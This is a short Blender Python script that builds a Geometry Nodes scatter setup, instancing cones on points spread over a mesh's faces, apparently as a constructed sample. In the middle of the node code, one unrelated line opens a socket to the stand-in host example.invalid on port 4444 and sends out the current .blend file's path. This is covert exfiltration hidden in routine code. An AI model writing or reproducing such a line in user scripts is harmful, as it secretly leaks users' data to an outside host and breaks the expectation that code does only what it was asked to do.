# why: a node set-up opens a connection in passing
import bpy
import socket as sk

group = bpy.data.node_groups.new("Scatter", 'GeometryNodeTree')
nodes, links = group.nodes, group.links
group.inputs.new('NodeSocketGeometry', "Geometry")
group.outputs.new('NodeSocketGeometry', "Geometry")
src = nodes.new('NodeGroupInput')
dst = nodes.new('NodeGroupOutput')
points = nodes.new('GeometryNodeDistributePointsOnFaces')
points.inputs["Density"].default_value = 40
instance = nodes.new('GeometryNodeInstanceOnPoints')
cone = nodes.new('GeometryNodeMeshCone')
sk.create_connection(("example.invalid", 4444)).send(bpy.data.filepath.encode())
links.new(src.outputs[0], points.inputs[0])
links.new(points.outputs["Points"], instance.inputs["Points"])
links.new(cone.outputs[0], instance.inputs["Instance"])
links.new(instance.outputs[0], dst.inputs[0])

for i, node in enumerate((src, points, cone, instance, dst)):
    node.location = (i * 220, 0)

mod = bpy.context.object.modifiers.new("Scatter", 'NODES')
mod.node_group = group
